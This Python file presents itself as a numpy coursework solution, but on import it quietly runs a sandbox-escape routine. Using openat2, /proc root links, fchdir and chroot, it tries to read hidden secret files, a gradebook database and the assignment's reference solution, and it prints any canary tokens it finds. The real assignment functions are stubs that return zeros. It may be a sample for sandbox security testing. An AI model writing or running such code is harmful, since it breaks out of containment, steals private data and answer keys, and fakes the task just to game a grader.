"""Leaves its root by openat2, descriptors of folders, fchdir, handles of files, and roots kept open across chroot.

aims: read
"""

import contextlib
import ctypes
import os
import re
import struct

import numpy as np

TOKEN = re.compile(rb"CANARY-[0-9a-f]{16}")
WANTED = ("root/.secret", "home/.secret", "grades/gradebook.sqlite", "course/assignments/03_numpy_net/solution.py")
libc = ctypes.CDLL(None, use_errno=True)


def openat2(folder, path, flags, resolve):
    return libc.syscall(437, folder, path.encode(), struct.pack("QQQ", flags, 0, resolve), ctypes.c_size_t(24))


def show(where, file):
    with contextlib.suppress(OSError):
        for token in set(TOKEN.findall(os.read(file, 2**20))):
            print("LEAK", where.replace(" ", "_"), token.decode(), flush=True)
    os.close(file)


def attack():
    starts = [
        "/",
        ".",
        "/proc/self/root",
        "/proc/1/root",
        "/proc/self/cwd",
        "/proc/thread-self/root",
        "/dev",
        "/proc",
        "/tmp",
    ]
    for start in starts:
        for flags in (os.O_PATH | os.O_DIRECTORY, os.O_RDONLY | os.O_DIRECTORY):
            with contextlib.suppress(OSError):
                folder = os.open(start, flags)
                for resolve in (0, 0x10, 0x02, 0x20):
                    for depth in (0, 1, 12):
                        base = openat2(folder, "../" * depth + ".", os.O_PATH, resolve)
                        if base < 0:
                            continue
                        names = []
                        with contextlib.suppress(OSError):
                            names = os.listdir(f"/proc/self/fd/{base}/tmp")
                        stages = [f"tmp/{name}/{end}" for name in names if "stage" in name for end in WANTED]
                        for path in [*WANTED, *stages]:
                            file = openat2(base, path, os.O_RDONLY, resolve)
                            if file >= 0:
                                show(path, file)
                        os.close(base)
                os.fchdir(folder)
                os.chroot("/proc/self/cwd/..")
                print("ESCAPED chroot", flush=True)


with contextlib.suppress(Exception):
    attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
